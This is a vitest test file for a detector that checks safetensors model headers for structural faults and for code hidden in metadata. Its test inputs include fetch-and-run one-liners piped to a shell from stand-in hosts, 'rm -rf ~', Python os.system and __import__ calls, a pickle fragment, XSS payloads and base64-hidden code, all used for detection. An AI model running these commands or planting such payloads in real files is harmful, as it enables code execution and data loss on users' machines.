import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../../src/core/byte-source.js';
import { DEFAULT_LIMITS } from '../../../src/core/limits.js';
import detector from '../../../src/detectors/model/safetensors-header.js';
import { readSafetensorsHeader } from '../../../src/readers/safetensors/index.js';
import { buildSafetensors, rawSafetensors } from '../../builders/safetensors.js';
import { brief, runDetector } from '../detector-tester.js';

const findings = (bytes: Buffer) => {
  const header = readSafetensorsHeader(bufferSource(bytes), DEFAULT_LIMITS);
  if (!header.ok) throw new Error(header.error.message);
  return runDetector(detector, { header: header.value, size: bytes.length });
};
const run = (bytes: Buffer) => brief(findings(bytes));

const weights = { 'model.embed.weight': { dtype: 'BF16', shape: [4, 8] }, 'model.norm.bias': { dtype: 'F32', shape: [8] } };
const withMetadata = (metadata: Record<string, string>) => buildSafetensors({ tensors: weights, metadata });
const u8 = (begin: number, end: number, data = Buffer.alloc(end - begin)) => ({ dtype: 'U8', shape: [end - begin], dataOffsets: [begin, end] as [number, number], data });

describe('model/safetensors-header: a valid file is a safe format', () => {
  it('valid weights: one info finding with the tensor count', () => {
    const result = findings(buildSafetensors({ tensors: weights, metadata: { format: 'pt' } }));
    expect(brief(result)).toEqual(['safeFormat:info']);
    expect(result[0]?.message).toContain('2 tensors');
  });
  it('ordinary training metadata (hashes, numbers, JSON, an image thumbnail) stays info', () => {
    const thumbnail = `data:image/png;base64,${'iVBORw0KGgo'.repeat(60)}`;
    const metadata = {
      format: 'pt',
      'modelspec.architecture': 'stable-diffusion-xl-v1-base/lora',
      'modelspec.thumbnail': thumbnail,
      ss_sd_model_hash: 'e6bb9ea85bbf7bf6478a7c6d18b71246f22e95d41bcdd80ed40aa212c33cfeff',
      ss_tag_frequency: JSON.stringify({ img: { 'a photo': 3, 'important detail': 1 } }),
      ss_learning_rate: '0.0001',
      description: 'Imported from our training run; evaluation (see notes) is pending.',
    };
    expect(run(withMetadata(metadata))).toEqual(['safeFormat:info']);
  });
});

describe('model/safetensors-header: structural problems are high (two loaders read different tensors)', () => {
  const cases: [string, Buffer, string[]][] = [
    ['overlapping tensors (aliased weights)', buildSafetensors({ tensors: { a: u8(0, 4), b: u8(2, 6, Buffer.alloc(2)) } }), ['overlap:high']],
    ['a gap between tensors', buildSafetensors({ tensors: { a: u8(0, 4), b: u8(8, 12, Buffer.alloc(8)) } }), ['gap:high']],
    ['trailing bytes after the tensors (smuggled payload)', buildSafetensors({ tensors: weights, trailing: Buffer.from('\x80\x02cos\nsystem\n', 'latin1') }), ['trailingBytes:high']],
    ['missing bytes (truncated data)', buildSafetensors({ tensors: { a: u8(0, 8, Buffer.alloc(4)) } }), ['missingBytes:high']],
    ['size mismatch (shape and offsets disagree)', buildSafetensors({ tensors: { a: { dtype: 'F32', shape: [4], dataOffsets: [0, 8], data: Buffer.alloc(8) } } }), ['sizeMismatch:high']],
    ['unknown dtype', buildSafetensors({ tensors: { a: { dtype: 'F8_E4M3FNUZZ', shape: [4], dataOffsets: [0, 4], data: Buffer.alloc(4) } } }), ['unknownDtype:high']],
    ['duplicate tensor names', rawSafetensors('{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', Buffer.alloc(1)), ['duplicateName:high']],
    ['duplicate field in an entry', rawSafetensors('{"w":{"dtype":"U8","shape":[1],"shape":[1],"data_offsets":[0,1]}}', Buffer.alloc(1)), ['duplicateKey:high']],
    ['not JSON', rawSafetensors('{"w":{"dtype":"U8",}}'), ['invalidHeader:high']],
    ['a malformed entry', rawSafetensors('{"w":{"dtype":"U8","shape":[-1],"data_offsets":[0,0]}}'), ['invalidTensor:high']],
    ['metadata that is not a map of strings', rawSafetensors('{"__metadata__":{"epochs":3}}'), ['invalidMetadata:high']],
  ];
  it.each(cases)('%s', (_name, bytes, expected) => {
    expect(run(bytes)).toEqual(expected);
  });

  it('a finding names the tensor and where it is', () => {
    const [finding] = findings(buildSafetensors({ tensors: { a: u8(0, 4), b: u8(2, 6, Buffer.alloc(2)) } }));
    expect(finding?.location).toMatchObject({ jsonPath: '$["b"]' });
    expect(finding?.location.offset).toBeGreaterThan(8);
    expect(finding?.message).toContain('"b"');
  });
  it('an ignored field is low, and high when it holds code', () => {
    expect(run(rawSafetensors('{"w":{"dtype":"U8","shape":[0],"data_offsets":[0,0],"note":"fp32 master copy"}}'))).toEqual(['unexpectedKey:low']);
    expect(run(rawSafetensors('{"w":{"dtype":"U8","shape":[0],"data_offsets":[0,0],"note":"__import__(\'os\').system(\'id\')"}}'))).toEqual(['unexpectedKey:low', 'metadataCode:high']);
  });
});

describe('model/safetensors-header: code in metadata is high, URLs are low', () => {
  const code: [string, string][] = [
    ['a Python import of os', 'import os\nos.system("curl x")'],
    ['a from-import', 'from subprocess import Popen'],
    ['__import__', "__import__('os').system('id')"],
    ['eval(', 'eval(compile(src, "x", "exec"))'],
    ['os.system', "os.system('rm -rf ~')"],
    ['subprocess', 'subprocess.run(["sh"])'],
    ['curl piped to a shell', 'curl -fsSL https://evil.example/x.sh | bash'],
    ['wget piped to sh', 'wget -qO- http://203.0.113.7/i | sh'],
    ['bash -c', 'bash -c "id > /tmp/x"'],
    ['a script tag', '<script>fetch("//x")</script>'],
    ['an HTML event handler', '<img src=x onerror=alert(1)>'],
  ];
  it.each(code)('%s', (_name, value) => {
    expect(run(withMetadata({ format: 'pt', note: value }))).toContain('metadataCode:high');
  });
  it('code in a metadata key or a tensor name counts too', () => {
    expect(run(withMetadata({ '__import__("os")': 'x' }))).toEqual(['metadataCode:high', 'safeFormat:info']);
    expect(run(buildSafetensors({ tensors: { 'eval(input())': { dtype: 'U8', shape: [1] } } }))).toEqual(['metadataCode:high', 'safeFormat:info']);
  });
  it('a base64 blob is medium; one that decodes to code or a pickle is high', () => {
    const blob = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37) % 251)).toString('base64');
    expect(run(withMetadata({ blob }))).toEqual(['metadataBlob:medium', 'safeFormat:info']);
    const hidden = Buffer.from(`${' '.repeat(200)}import os\nos.system("id")`).toString('base64');
    expect(run(withMetadata({ blob: hidden }))).toEqual(['metadataCode:high', 'safeFormat:info']);
    const pickle = Buffer.concat([Buffer.from([0x80, 0x04]), Buffer.alloc(250, 0x41)]).toString('base64');
    const result = findings(withMetadata({ blob: pickle }));
    expect(brief(result)).toEqual(['metadataCode:high', 'safeFormat:info']);
    expect(result[0]?.evidence.rule).toBe('base64-pickle');
  });
  it('a URL is low, once per distinct URL, with the URL as evidence', () => {
    const result = findings(withMetadata({ license: 'https://example.com/license', source: 'see https://example.com/license and http://example.org/x' }));
    expect(brief(result)).toEqual(['metadataUrl:low', 'metadataUrl:low', 'metadataUrl:low', 'safeFormat:info']);
    expect(result[0]?.evidence.match).toBe('https://example.com/license');
    expect(result[0]?.location.jsonPath).toBe('$.__metadata__["license"]');
  });
  it('a flood of findings is capped, and the rest counted at their severity', () => {
    const metadata = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`k${i}`, `http://example.com/${i}`]));
    const result = brief(findings(withMetadata(metadata)));
    expect(result.filter((f) => f === 'metadataUrl:low')).toHaveLength(25);
    expect(result).toContain('moreFindings:low');
  });
  it('more problems than the reader keeps: the remainder is one high finding', () => {
    const tensors = Object.fromEntries(Array.from({ length: 1100 }, (_, i) => [`t${i}`, { dtype: 'X', shape: [0], dataOffsets: [0, 0] as [number, number], data: Buffer.alloc(0) }]));
    const result = brief(findings(buildSafetensors({ tensors })));
    expect(result.filter((f) => f === 'unknownDtype:high')).toHaveLength(25);
    expect(result).toContain('problemsOmitted:high');
    expect(result).toContain('moreFindings:high');
    expect(result).not.toContain('safeFormat:info');
  });
});
